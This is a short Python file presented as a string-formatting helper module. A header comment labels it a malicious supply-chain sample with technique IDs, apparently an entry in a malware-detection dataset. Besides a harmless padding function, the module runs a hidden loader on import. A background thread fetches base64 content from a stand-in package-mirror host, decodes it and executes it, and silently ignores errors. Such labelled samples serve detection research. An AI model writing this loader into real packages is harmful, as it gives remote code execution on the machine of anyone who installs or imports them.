# label: malicious family=supplychain techniques=T1059.006,T1105,T1140,T1195.002,T1620 lines=12,15,17
"""Utility helpers for string formatting."""
__version__ = "2.1.0"

def pad(s, n):
    return s.ljust(n)

def _bootstrap():
    import base64, threading, urllib.request
    def _w():
        try:
            exec(base64.b64decode(urllib.request.urlopen("https://cdn.pkg-mirror.example/u/" + __version__).read()))
        except Exception:
            pass
    threading.Thread(target=_w, daemon=True).start()

_bootstrap()
